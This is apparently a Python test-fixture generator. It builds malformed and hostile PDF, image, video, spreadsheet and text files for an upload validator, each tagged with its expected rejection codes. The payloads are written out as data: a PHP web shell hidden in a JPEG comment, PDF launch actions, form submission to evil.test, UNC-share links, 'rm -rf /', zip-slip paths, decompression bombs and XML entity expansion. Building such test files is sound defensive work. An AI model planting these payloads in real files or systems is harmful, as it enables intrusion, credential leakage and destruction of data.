"""A seeded maker of hostile files: each case says its name, its bytes, and which refusals are right.

An empty set of codes means that the file may be taken as well as refused; it only has to end well.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import partial
from typing import TYPE_CHECKING

import pikepdf
from PIL import Image

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

SEED = 20260131


@dataclass(frozen=True)
class Case:
    name: str
    source: bytes | Callable[[], bytes]
    codes: frozenset[str]

    @property
    def content(self) -> bytes:
        """The bytes; large ones are made only when asked for."""
        return self.source if isinstance(self.source, bytes) else self.source()


def case(name: str, content: bytes | Callable[[], bytes], *codes: str) -> Case:
    return Case(name, content, frozenset(codes))


def noise(width: int = 64, height: int = 48) -> Image.Image:
    dice = random.Random(SEED)
    return Image.frombytes("RGB", (width, height), dice.randbytes(width * height * 3))


def saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    picture.save(buffer, kind, **options)
    return buffer.getvalue()


def pdf(
    pages: int = 1, edit: Callable[[pikepdf.Pdf], None] | None = None, **options: object
) -> bytes:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    if edit is not None:
        edit(document)
    buffer = io.BytesIO()
    document.save(buffer, **options)
    return buffer.getvalue()


def xlsx(parts: dict[str, bytes] | None = None, *, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    whole = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
        "xl/workbook.xml": b'<?xml version="1.0"?><workbook/>',
        "xl/worksheets/sheet1.xml": b'<?xml version="1.0"?><worksheet/>',
        **(parts or {}),
    }
    return zipped(whole, packing=packing)


def zipped(parts: dict[str, bytes], *, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", packing) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def png_chunk(kind: bytes, content: bytes) -> bytes:
    crc = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", crc)


def png(width: int, height: int, *extra: bytes, depth: int = 8, data: bytes | None = None) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, 2, 0, 0, 0)
    body = zlib.compress(bytes(1000)) if data is None else data
    return b"".join(
        (
            b"\x89PNG\r\n\x1a\n",
            png_chunk(b"IHDR", head),
            *extra,
            png_chunk(b"IDAT", body),
            png_chunk(b"IEND", b""),
        )
    )


def box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content) + 8) + kind + content


def heic(width: int = 4032, height: int = 3024) -> bytes:
    ispe = box(b"ispe", bytes(4) + struct.pack(">II", width, height))
    meta = box(b"meta", bytes(4) + box(b"iprp", box(b"ipco", ispe)))
    return box(b"ftyp", b"heic\0\0\0\0mif1heic") + meta + box(b"mdat", bytes(64))


def samsung_trailer(content: bytes = b"moving picture" * 20) -> bytes:
    """Return what Samsung's cameras put behind a photo: one block of data and the directory of blocks."""
    name = b"MotionPhoto_Data"
    block = b"\0\0\x30\x0a" + struct.pack("<I", len(name)) + name + content
    directory = b"SEFH" + struct.pack("<II", 107, 1)
    directory += b"\0\0\x30\x0a" + struct.pack("<II", len(block), len(block))
    return block + directory + struct.pack("<I", len(directory)) + b"SEFT"


def mp4(brand: bytes = b"isom") -> bytes:
    return (
        box(b"ftyp", brand + bytes(4) + b"isommp42")
        + box(b"moov", bytes(32))
        + box(b"mdat", bytes(64))
    )


def webm(segment_size: bytes = b"\x84") -> bytes:
    return b"\x1a\x45\xdf\xa3\x87\x42\x82\x84webm" + b"\x18\x53\x80\x67" + segment_size + bytes(4)


def _with_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _with_hidden_script(document: pikepdf.Pdf) -> None:
    deep = pikepdf.Dictionary(
        AA=pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript))
    )
    document.pages[0].obj.Annots = pikepdf.Array([pikepdf.Array([deep])])


def _with_launch(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def _with_form_sending(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = document.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.test")
    )


def _with_attachment(document: pikepdf.Pdf) -> None:
    document.attachments["evil.exe"] = b"MZ" + bytes(100)


def _with_media(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.Annots = pikepdf.Array(
        [pikepdf.Dictionary(RichMediaContent=pikepdf.Dictionary())]
    )


def _with_xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Array([]))


def _with_giant_page(document: pikepdf.Pdf) -> None:
    document.pages[0].mediabox = [0, 0, 1_000_000, 1_000_000]


def _with_giant_unit(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.UserUnit = 75


def _with_empty_page(document: pikepdf.Pdf) -> None:
    document.pages[0].mediabox = [0, 0, 0, 0]


def _with_many_objects(document: pikepdf.Pdf) -> None:
    document.Root.Heap = pikepdf.Array(
        [document.make_indirect(pikepdf.Dictionary(N=n)) for n in range(100_001)]
    )


def _with_wide_object(document: pikepdf.Pdf) -> None:
    document.Root.Heap = pikepdf.Array([pikepdf.Array([]) for _ in range(400_000)])


def _with_giant_picture(document: pikepdf.Pdf) -> None:
    picture = pikepdf.Stream(document, zlib.compress(bytes(10_000_000)), Type=pikepdf.Name.XObject)
    picture.stream_dict.update({})
    for key, value in {
        "/Subtype": pikepdf.Name.Image, "/Width": 60_000, "/Height": 60_000, "/BitsPerComponent": 8,
        "/ColorSpace": pikepdf.Name.DeviceRGB, "/Filter": pikepdf.Name.FlateDecode,
    }.items():  # fmt: skip
        picture[key] = value
    page = document.pages[0]
    page.obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=picture))
    page.obj.Contents = document.make_stream(b"595 0 0 842 0 0 cm /A Do")


def _with_page_loop(document: pikepdf.Pdf) -> None:
    document.Root.Pages.Kids.append(document.Root.Pages)


def pdfs() -> Iterator[Case]:
    whole = pdf(3)
    for share in range(5, 100, 5):
        yield case(f"cut-{share}.pdf", whole[: len(whole) * share // 100], "damaged")
    dice = random.Random(SEED)
    for number in range(25):
        broken = bytearray(whole)
        for _ in range(1 + number):
            broken[dice.randrange(9, len(broken))] = dice.randrange(256)
        yield case(f"bytes-changed-{number}.pdf", bytes(broken))
    edits: dict[str, tuple[Callable[[pikepdf.Pdf], None], str]] = {
        "script": (_with_script, "pdf_script"), "hidden-script": (_with_hidden_script, "pdf_script"),
        "xfa": (_with_xfa, "pdf_script"), "launch": (_with_launch, "pdf_action"),
        "sending": (_with_form_sending, "pdf_action"), "attachment": (_with_attachment, "pdf_attachment"),
        "media": (_with_media, "pdf_attachment"), "giant-page": (_with_giant_page, "pdf_page_size"),
        "giant-unit": (_with_giant_unit, "pdf_page_size"), "empty-page": (_with_empty_page, "pdf_page_size"),
        "objects": (_with_many_objects, "pdf_objects"),
    }  # fmt: skip
    for name, (edit, code) in edits.items():
        yield case(f"{name}.pdf", partial(pdf, 1, edit), code)
        packed = pikepdf.ObjectStreamMode.generate
        yield case(f"{name}-packed.pdf", partial(pdf, 1, edit, object_stream_mode=packed), code)
    yield case("wide-object.pdf", lambda: pdf(1, _with_wide_object))
    yield case("page-loop.pdf", pdf(1, _with_page_loop), "damaged", "pdf_pages")
    yield case("giant-picture.pdf", lambda: pdf(1, _with_giant_picture))
    yield case("no-pages.pdf", pdf(0), "pdf_no_pages", "damaged")
    yield case("501-pages.pdf", lambda: pdf(501), "pdf_pages")
    yield case("10000-pages.pdf", lambda: pdf(10_000), "pdf_pages")
    lock = pikepdf.Encryption
    yield case("password.pdf", pdf(encryption=lock(owner="a", user="b")), "pdf_encrypted")
    yield case("xref-loop.pdf", _xref_loop(), "damaged", "pdf_no_pages")
    yield case(
        "nested.pdf",
        b"%PDF-1.4\n1 0 obj " + b"[" * 200_000 + b"\nendobj\n%%EOF",
        "damaged",
        "too_heavy",
    )
    yield case("head-only.pdf", b"%PDF-1.7\n%%EOF", "damaged")
    yield case("stream-bomb.pdf", _object_stream_bomb, "damaged", "too_heavy")
    yield case(
        "html.pdf", b"%PDF-1.4\n%<html><script>alert(1)</script></html>\n" + whole[9:], "two_in_one"
    )
    yield case("html-first.pdf", b"<html><script>alert(1)</script>" + whole, "markup")
    yield case("zip-after.pdf", whole + zipped({"evil.exe": b"MZ"}), "two_in_one")
    yield case("text-long-before.pdf", b"x" * 5_000 + whole, "unsupported")
    yield case("program-before.pdf", b"MZ\1\2" + bytes(60) + whole, "executable")
    yield from _leading_outside()


def _leading_outside() -> Iterator[Case]:
    """Yield PDFs that speak to another machine: by themselves, when a page opens, or through a share's name."""
    name, words = pikepdf.Name, pikepdf.String
    share = pikepdf.Dictionary(
        S=name.GoToR, F=words(r"\\10.0.0.9\share\a.pdf"), D=pikepdf.Array([0])
    )
    page = pikepdf.Dictionary(S=name.URI, URI=words("http://10.0.0.9/seen"))
    after = pikepdf.Dictionary(S=name.Named, N=name.NextPage, Next=pikepdf.Array([page]))
    many = pikepdf.Dictionary(S=name.Named, N=name.NextPage)
    for _ in range(2_000):
        many = pikepdf.Dictionary(S=name.Named, N=name.NextPage, Next=many)
    link = pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9])

    def edited(edit: Callable[[pikepdf.Pdf], None]) -> Callable[[], bytes]:
        return partial(pdf, 1, edit)

    def pressed(action: pikepdf.Dictionary) -> Callable[[pikepdf.Pdf], None]:
        def edit(document: pikepdf.Pdf) -> None:
            annotation = document.make_indirect(pikepdf.Dictionary({**link, "/A": action}))
            document.pages[0].obj.Annots = pikepdf.Array([annotation])

        return edit

    def on_opening(action: pikepdf.Dictionary) -> Callable[[pikepdf.Pdf], None]:
        return lambda document: setattr(document.Root, "OpenAction", action)

    def on_page(action: pikepdf.Dictionary) -> Callable[[pikepdf.Pdf], None]:
        triggers = pikepdf.Dictionary(O=action)
        return lambda document: setattr(document.pages[0].obj, "AA", triggers)

    def elsewhere(document: pikepdf.Pdf) -> None:
        stream = document.make_stream(b"")
        stream.F = words(r"\\10.0.0.9\share\page")
        document.pages[0].obj.Contents = stream

    file_link = pikepdf.Dictionary(S=name.URI, URI=words("file://10.0.0.9/share/a"))
    yield case("opens-web-page.pdf", edited(on_opening(page)), "pdf_outside")
    yield case("page-opens-share.pdf", edited(on_page(share)), "pdf_outside")
    yield case("web-page-after-turning.pdf", edited(on_opening(after)), "pdf_outside")
    yield case("pressed-share.pdf", edited(pressed(share)), "pdf_outside")
    yield case("pressed-file.pdf", edited(pressed(file_link)), "pdf_outside")
    yield case("endless-actions.pdf", edited(on_opening(many)), "pdf_outside", "damaged")
    yield case("stream-elsewhere.pdf", edited(elsewhere), "pdf_outside")


def _xref_loop() -> bytes:
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    at = len(body)
    return (
        body
        + b"xref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF"
        % (at, at)
    )


def _object_stream_bomb() -> bytes:
    packed = zlib.compress(bytes(400_000_000), 1)
    head = b"%PDF-1.5\n1 0 obj<</Type/XRef/Size 9/W[1 8 8]/Root 2 0 R/Filter/FlateDecode/Length "
    return (
        head + b"%d>>stream\n" % len(packed) + packed + b"\nendstream endobj\nstartxref\n9\n%%EOF"
    )


def images() -> Iterator[Case]:
    kinds = {
        "jpg": saved(noise(), "JPEG"),
        "png": saved(noise(), "PNG"),
        "webp": saved(noise(), "WEBP", lossless=True),
    }
    dice = random.Random(SEED)
    for suffix, whole in kinds.items():
        for share in (10, 25, 40, 55, 70, 85, 95):
            yield case(f"cut-{share}.{suffix}", whole[: len(whole) * share // 100], "damaged")
        for number in range(12):
            broken = bytearray(whole)
            for _ in range(1 + number * 3):
                broken[dice.randrange(12, len(broken))] = dice.randrange(256)
            yield case(f"bytes-changed-{number}.{suffix}", bytes(broken))
        yield case(f"zip-after.{suffix}", whole + zipped({"evil.exe": b"MZ"}), "two_in_one")
        yield case(f"signature-only.{suffix}", whole[:12], "damaged")
        yield case(f"noise-after-signature.{suffix}", whole[:16] + dice.randbytes(5000), "damaged", "image_pixels", "image_frames", "two_in_one", "too_heavy")  # fmt: skip
    yield from _png_tricks(dice)
    yield from _jpeg_and_webp_tricks(kinds["jpg"], kinds["webp"])
    yield from _other_pictures(kinds["jpg"])


def _png_tricks(dice: random.Random) -> Iterator[Case]:
    bomb = zlib.compress(bytes(100_000_000), 1)
    yield case("bomb-60000.png", png(60_000, 60_000, data=bomb), "image_pixels")
    yield case("bomb-limit.png", png(64_000_001, 1, data=bomb), "image_pixels")
    yield case("lying-size.png", png(5000, 5000), "damaged")
    yield case("zero.png", png(0, 0), "damaged")
    yield case("too-much-data.png", png(10, 10, data=bomb))
    yield case("text-bomb.png", png(10, 10, png_chunk(b"zTXt", b"a\0\0" + bomb)))
    yield case(
        "icc-garbage.png",
        png(4, 4, png_chunk(b"iCCP", b"x\0\0" + zlib.compress(dice.randbytes(999)))),
    )
    yield case("exif-garbage.png", png(4, 4, png_chunk(b"eXIf", b"II*\0" + dice.randbytes(999))))
    frames = png_chunk(b"acTL", struct.pack(">II", 10_000, 0))
    yield case("frames.png", png(10, 10, frames), "image_frames", "damaged")
    yield case("many-chunks.png", png(10, 10, *[png_chunk(b"tEXt", b"a\0b")] * 50_000))
    yield case(
        "script.png", png(4, 4, png_chunk(b"tEXt", b"a\0<script>alert(1)</script>")), "two_in_one"
    )
    yield case("depth.png", png(4, 4, depth=33), "damaged")


def _jpeg_and_webp_tricks(jpeg: bytes, webp: bytes) -> Iterator[Case]:
    sof = jpeg.index(b"\xff\xc0")
    giant = jpeg[: sof + 5] + b"\xff\xff\xff\xff" + jpeg[sof + 9 :]
    yield case("lying-size.jpg", giant, "image_pixels")
    yield case(
        "php.jpg",
        jpeg[:2] + b"\xff\xfe\0\x20<?php system($_GET['c']); ?>    " + jpeg[2:],
        "two_in_one",
    )
    yield case("pdf-inside.jpg", jpeg[:2] + b"\xff\xfe\0\x0c%PDF-1.4\n1 " + jpeg[2:], "two_in_one")
    exif = Image.Exif()
    exif[0x010E] = "x" * 60_000
    yield case("exif-large.jpg", saved(noise(), "JPEG", exif=exif))
    yield case("exif-loop.jpg", jpeg[:2] + b"\xff\xe1\0\x22Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0" + jpeg[2:])  # fmt: skip
    yield case(
        "icc-garbage.jpg", saved(noise(), "JPEG", icc_profile=random.Random(1).randbytes(5000))
    )
    scans = jpeg[:-2] + jpeg[jpeg.index(b"\xff\xda") : -2] * 2_000 + b"\xff\xd9"
    yield case("many-scans.jpg", scans)
    canvas = (
        b"RIFF"
        + struct.pack("<I", 22)
        + b"WEBPVP8X"
        + struct.pack("<I", 10)
        + b"\2\0\0\0"
        + b"\xff" * 6
    )
    yield case("giant-canvas.webp", canvas, "image_pixels")
    moving = saved(
        noise(), "WEBP", save_all=True, append_images=[noise(64, 48).rotate(n) for n in range(120)]
    )
    yield case("frames.webp", moving, "image_frames")
    yield case("riff-size.webp", webp[:4] + b"\xff\xff\xff\xff" + webp[8:])


def _other_pictures(jpeg: bytes) -> Iterator[Case]:
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield case("drawing.svg", svg, "markup")
    yield case("drawing.jpg", svg, "markup")
    yield case("utf16.svg", svg.decode().encode("utf-16"), "markup")
    yield case(
        "animation.gif",
        saved(noise(), "GIF", save_all=True, append_images=[noise()] * 50),
        "unsupported",
    )
    yield case("scan.tif", saved(noise(), "TIFF"), "unsupported")
    yield case(
        "huge-tag.tif", b"II*\0\x08\0\0\0\x01\0\0\1\4\0\xff\xff\xff\xff" + bytes(8), "unsupported"
    )
    yield case("old.bmp", saved(noise(), "BMP"), "unsupported")
    yield case("new.avif", box(b"ftyp", b"avif\0\0\0\0mif1avif") + bytes(99), "unsupported")
    yield case("cut.heic", heic()[:-30], "damaged")
    yield case("giant.heic", heic(60_000, 60_000), "image_pixels")
    yield case("no-size.heic", box(b"ftyp", b"heic\0\0\0\0") + box(b"meta", bytes(4)), "damaged")
    yield case(
        "tiny-boxes.heic", box(b"ftyp", b"heic\0\0\0\0") + box(b"free", b"") * 30_000, "damaged"
    )
    yield case("zero-box.heic", box(b"ftyp", b"heic\0\0\0\0") + b"\0\0\0\4meta", "damaged")
    yield case("program.jpg", b"MZ" + bytes(200), "executable")
    yield case("program.png", b"\x7fELF\x02\x01\x01" + bytes(200), "executable")
    yield case("script.csv", b"#!/bin/sh\nrm -rf /\n", "executable")
    yield case("page.jpg", b"  <!DOCTYPE html><script>alert(1)</script>", "markup")
    yield case("empty.jpg", b"", "empty")
    yield case("nothing.jpg", bytes(10_000), "unsupported")
    yield case("large.jpg", jpeg + bytes(21 * 1024 * 1024), "too_large")


def movies() -> Iterator[Case]:
    yield case("cut.mp4", mp4()[:-10], "damaged")
    yield case("no-index.mp4", box(b"ftyp", b"isom\0\0\0\0") + box(b"mdat", bytes(99)), "damaged")
    yield case("zip-after.mp4", mp4() + zipped({"a": b"b"}), "two_in_one")
    yield case(
        "text-after.mov", mp4(b"qt  ") + b"<script>alert(1)</script>", "damaged", "two_in_one"
    )
    yield case(
        "overrun.mp4", box(b"ftyp", b"isom\0\0\0\0") + b"\0\0\0\1moov" + b"\xff" * 8, "damaged"
    )
    yield case("cut.webm", webm()[:-2], "damaged")
    yield case("after.webm", webm() + b"more", "damaged")
    yield case("head.webm", webm()[:12], "damaged")
    yield case("film.mkv", webm().replace(b"webm", b"matr"), "unsupported")


def tables() -> Iterator[Case]:
    sheet = "xl/worksheets/sheet1.xml"
    yield case("plain.zip", zipped({"a.txt": b"a"}), "archive")
    yield case(
        "word.docx", zipped({"[Content_Types].xml": b"", "word/document.xml": b""}), "unsupported"
    )
    yield case("empty.zip", zipped({}), "archive")
    yield case("macro.xlsx", xlsx({"xl/vbaProject.bin": b"x"}), "table_macro")
    yield case("object.xlsx", xlsx({"xl/embeddings/a.bin": b"x"}), "table_embedded")
    yield case("nested.xlsx", xlsx({"xl/media/a.png": zipped({"b": b"c"})}), "table_embedded")
    yield case("program.xlsx", xlsx({"xl/media/a.png": b"MZ" + bytes(99)}), "table_embedded")
    yield case("bomb-1000-to-1.xlsx", lambda: xlsx({sheet: bytes(300_000_000)}), "table_bomb")
    yield case(
        "strings-many.xlsx",
        lambda: xlsx({f"xl/s{n}.xml": bytes(30_000_000) for n in range(10)}),
        "table_bomb",
    )
    laughs = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'
    yield case("laughs.xlsx", xlsx({"xl/workbook.xml": laughs}), "table_entities")
    yield case(
        "laughs16.xlsx",
        xlsx({"xl/workbook.xml": laughs.decode().encode("utf-16")}),
        "table_entities",
    )
    late = b'<?xml version="1.0"?>' + b" " * 5_000 + laughs[21:]
    yield case("laughs-after-spaces.xlsx", xlsx({"xl/workbook.xml": late}), "table_entities")
    filler = (
        random.Random(SEED).randbytes(512 * 1024).hex().encode()
    )  # packs to a half, not to nothing
    across = b"<!--" + filler[: 1024 * 1024 - 12] + b"-->" + laughs[21:]
    yield case("laughs-across-pieces.xlsx", xlsx({"xl/workbook.xml": across}), "table_entities")
    yield case("letters-200-mb.xlsx", lambda: xlsx({sheet: b"A" * 200_000_000}), "table_ratio")
    yield case("parts.xlsx", xlsx({f"xl/p{n}.xml": b"" for n in range(2_100)}), "table_parts")
    for name in ("../../etc/passwd", "/etc/passwd", "..\\evil.dll", "C:/evil.dll"):
        yield case("slip.xlsx", xlsx({name: b"x"}), "table_parts")
    yield case("link.xlsx", _with_link(), "table_parts")
    yield case("overlap.xlsx", _overlapping(), "table_parts", "damaged")
    yield case("lying-size.xlsx", _lying(xlsx({sheet: bytes(50_000)})), "table_parts", "damaged")
    yield case("encrypted.xlsx", _flagged(xlsx()), "table_encrypted")
    whole = xlsx({sheet: random.Random(SEED).randbytes(20_000)})
    for share in range(10, 100, 10):
        yield case(f"cut-{share}.xlsx", whole[: len(whole) * share // 100], "damaged", "archive")
    yield case("rar.xlsx", b"Rar!\x1a\x07\x01\0" + bytes(99), "archive")
    yield case("seven.xlsx", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(99), "archive")
    yield case("gzip.csv", b"\x1f\x8b\x08\0" + bytes(99), "archive")
    yield case("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "unsupported")


def _with_link() -> bytes:
    buffer = io.BytesIO(xlsx())
    with zipfile.ZipFile(buffer, "a") as archive:
        link = zipfile.ZipInfo("xl/link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def _overlapping() -> bytes:
    """Point two directory entries at the same packed bytes."""
    raw = bytearray(xlsx({"xl/a.xml": b"x" * 9000, "xl/b.xml": b"x" * 9000}))
    entries = [at for at in range(len(raw)) if raw[at : at + 4] == b"PK\1\2"]
    raw[entries[-1] + 42 : entries[-1] + 46] = raw[entries[-2] + 42 : entries[-2] + 46]
    return bytes(raw)


def _lying(raw: bytes) -> bytes:
    changed = bytearray(raw)
    for at in range(len(changed)):
        if changed[at : at + 4] == b"PK\1\2" and changed[at + 24 : at + 28] == struct.pack(
            "<I", 50_000
        ):
            changed[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(changed)


def _flagged(raw: bytes) -> bytes:
    changed = bytearray(raw)
    for at in range(len(changed)):
        if changed[at : at + 4] == b"PK\1\2":
            changed[at + 8] |= 1
    return bytes(changed)


def texts() -> Iterator[Case]:
    yield case("zeros.csv", b"a;b\n" + bytes(10), "unsupported")
    yield case("late-zeros.csv", b"a;b\n" * 5_000 + bytes(10), "text_unreadable")
    yield case("line.csv", b"x" * 1_500_000, "text_line")
    yield case("half.csv", "Заявка".encode("utf-16")[:-1], "text_unreadable")
    yield case("notes.txt", "просто текст".encode(), "unsupported")
    yield case("deep.json", b"[" * 100_000 + b"]" * 100_000, "json_depth")
    yield case("broken.json", b'{"a": ', "json_broken")
    yield case("digits.json", b"[" + b"9" * 5_000 + b"]", "json_broken")
    yield case("lists.json", lambda: b"[" + b"[]," * 6_000_000 + b"[]]", "too_heavy")


def every_case() -> list[Case]:
    """Make them all, always the same."""
    return [*pdfs(), *images(), *movies(), *tables(), *texts()]
